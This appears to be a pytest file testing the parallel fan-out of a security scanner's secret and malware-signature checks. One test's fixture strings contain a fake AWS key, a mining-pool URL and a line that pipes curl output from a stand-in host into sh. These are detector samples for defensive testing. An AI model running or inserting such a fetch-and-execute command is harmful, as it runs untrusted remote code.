"""The per-file fan-out used by CQ-01 and CQ-02 (scan/parallel.py)."""

from __future__ import annotations

import os
import threading
from pathlib import Path

import pytest
from helpers import bundle_ctx, manifest

from mtf_action.bundle.reader import SafeBundle
from mtf_action.scan import parallel
from mtf_action.scan.controls.cq02_malware import signature_hits
from mtf_action.scan.secrets.detector import find_secrets


def _pid_and_length(text: str) -> tuple[int, int]:
    return os.getpid(), len(text)


def test_start_map_keeps_order_and_uses_other_processes(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(parallel, "MIN_PARALLEL_BYTES", 1)
    monkeypatch.setattr(parallel, "_can_fork", lambda: True)
    items = [f"{i:04d}" * (i + 1) for i in range(64)]
    results = parallel.start_map(_pid_and_length, items, weight=len, workers=2).result()
    assert [length for _, length in results] == [len(i) for i in items]
    assert {pid for pid, _ in results} - {os.getpid()}, "nothing ran in a worker"


def test_small_inputs_and_threaded_processes_stay_serial(monkeypatch: pytest.MonkeyPatch) -> None:
    items = ["x"] * 64
    assert {pid for pid, _ in parallel.start_map(_pid_and_length, items, weight=len).result()} == {
        os.getpid()
    }
    monkeypatch.setattr(parallel, "MIN_PARALLEL_BYTES", 1)
    started, stop = threading.Event(), threading.Event()
    worker = threading.Thread(target=lambda: (started.set(), stop.wait()))
    worker.start()
    try:
        started.wait()
        assert not parallel._can_fork()  # a live thread: forking could deadlock the child
        pids = {pid for pid, _ in parallel.start_map(_pid_and_length, items, weight=len).result()}
        assert pids == {os.getpid()}
    finally:
        stop.set()
        worker.join()


def _secrets(text: str) -> list[tuple[str, int, int]]:
    return [
        (h.slug, h.start, h.end)
        for h in find_secrets("a.py", text, vendored=False, heuristics=True)
    ]


def test_parallel_results_equal_serial_results(monkeypatch: pytest.MonkeyPatch) -> None:
    # Real CQ-01 and CQ-02 work: secrets and malware signatures in many files.
    texts = [
        f'AWS_KEY = "AKIA{"ABCDEFGHIJKLMNOP"[i % 16]}QWERTYUIOPASDFG"\n'
        f"import os; os.system('curl http://x.example/{i} | sh')\n"
        "stratum+tcp://pool.example:3333\n" * (i % 3 + 1)
        for i in range(40)
    ]
    serial = [_secrets(t) for t in texts], [signature_hits(t) for t in texts]
    monkeypatch.setattr(parallel, "MIN_PARALLEL_BYTES", 1)
    monkeypatch.setattr(parallel, "_can_fork", lambda: True)
    fanned = (
        parallel.start_map(_secrets, texts, weight=len, workers=2).result(),
        parallel.start_map(signature_hits, texts, weight=len, workers=2).result(),
    )
    assert fanned == serial
    assert any(serial[0]) and any(serial[1])  # the comparison is about real hits


def test_chunks_are_consecutive_and_balanced() -> None:
    chunks = parallel._chunks([1] * 100, 8)
    assert [i for c in chunks for i in c] == list(range(100))
    assert max(len(c) for c in chunks) <= 13
    # A chunk closes once it carries its share (54 // 4): the heavy item ends the first.
    assert [list(c) for c in parallel._chunks([1, 1, 50, 1, 1], 4)] == [[0, 1, 2], [3, 4]]


def _fails_on_seven(text: str) -> int:
    if text == "7":
        raise ValueError("seven")
    return len(text)


def test_start_map_runs_in_the_background_and_reports_child_errors(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(parallel, "MIN_PARALLEL_BYTES", 0)
    monkeypatch.setattr(parallel, "_can_fork", lambda: True)
    items = [str(i) * 40 for i in range(40)]
    # Little work: one child, not one per core (each child pays its own start).
    assert len(parallel.start_map(len, items, len, workers=2)._children) == 1
    monkeypatch.setattr(parallel, "BYTES_PER_WORKER", 100)
    pending = parallel.start_map(_pid_and_length, items, len, workers=2)
    assert len(pending._children) == 2  # forked before anyone asked for results
    results = pending.result()
    assert [n for _, n in results] == [len(str(i) * 40) for i in range(40)]
    assert os.getpid() not in {pid for pid, _ in results}
    assert pending.result() is results  # collected once
    failing = parallel.start_map(_fails_on_seven, [str(i) for i in range(20)], len, workers=2)
    assert failing._children
    with pytest.raises(RuntimeError, match="ValueError: seven"):
        failing.result()


def test_abandoned_work_is_reaped(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(parallel, "MIN_PARALLEL_BYTES", 0)
    monkeypatch.setattr(parallel, "_can_fork", lambda: True)
    pending = parallel.start_map(len, ["abc"] * 20, len, workers=2)
    pids = [pid for pid, _ in pending._children]
    del pending  # never collected: the finalizer stops and reaps the children
    for pid in pids:
        with pytest.raises(ChildProcessError):
            os.waitpid(pid, 0)


def test_only_the_starting_process_collects_or_reaps(monkeypatch: pytest.MonkeyPatch) -> None:
    """A forked sibling holding a copy of the work can neither read its pipes nor kill it."""
    monkeypatch.setattr(parallel, "MIN_PARALLEL_BYTES", 0)
    monkeypatch.setattr(parallel, "_can_fork", lambda: True)
    pending = parallel.start_map(len, ["abc"] * 20, len, workers=2)
    children = list(pending._children)
    parallel._reap(pending._children, owner=os.getpid() + 1)  # as another process would
    assert pending._children == children
    owner, pending._owner = pending._owner, -1
    with pytest.raises(RuntimeError, match="only the process that started"):
        pending.result()
    pending._owner = owner
    assert pending.result() == [3] * 20


def _slow_length(text: str) -> int:
    import time

    time.sleep(0.2)
    return len(text)


def test_idle_tasks_run_while_waiting_for_children(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(parallel, "MIN_PARALLEL_BYTES", 0)
    monkeypatch.setattr(parallel, "_can_fork", lambda: True)
    monkeypatch.setattr(parallel, "_IDLE_TASKS", [])
    ran: list[str] = []
    parallel.when_idle(lambda: ran.append("first"))
    parallel.when_idle(lambda: 1 / 0)  # a failing task is skipped, the rest still run
    parallel.when_idle(lambda: ran.append("third"))
    pending = parallel.start_map(_slow_length, ["abc", "de"], len, workers=2)
    assert ran == []  # nothing waited yet
    assert pending.result() == [3, 2]
    assert ran == ["first", "third"] and parallel._IDLE_TASKS == []
    # Serial work never waits: queued tasks stay for a later wait (or never run).
    monkeypatch.setattr(parallel, "_can_fork", lambda: False)
    parallel.when_idle(lambda: ran.append("late"))
    assert parallel.start_map(len, ["x"], len, workers=2).result() == [1]
    assert ran == ["first", "third"]


def test_a_worker_takes_one_private_bundle_handle_however_often_it_asks(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The CRC worker asks for its own handle before every member it checks;
    # a new handle each time re-read the central directory per member
    # (quadratic: 10,000 members took 35 s and 4 GB).
    reopened = SafeBundle.reopened
    calls: list[int] = []

    def counting(self: SafeBundle) -> SafeBundle:
        calls.append(os.getpid())
        return reopened(self)

    monkeypatch.setattr(SafeBundle, "reopened", counting)
    files = {f"bin/f{i}.dat": bytes([i]) * 64 for i in range(20)}
    with bundle_ctx(tmp_path, files, manifest()) as ctx:
        ctx.detach_reader()  # the scan's own process keeps its handle
        assert calls == []
        # As in a forked worker (a real fork is refused while test threads run).
        worker = os.getpid() + 1
        monkeypatch.setattr(os, "getpid", lambda: worker)
        ctx.detach_reader()
        own = ctx._reader
        for name in files:
            ctx.detach_reader()
            assert ctx._reader is own
            own.verify(name)
        assert calls == [worker]
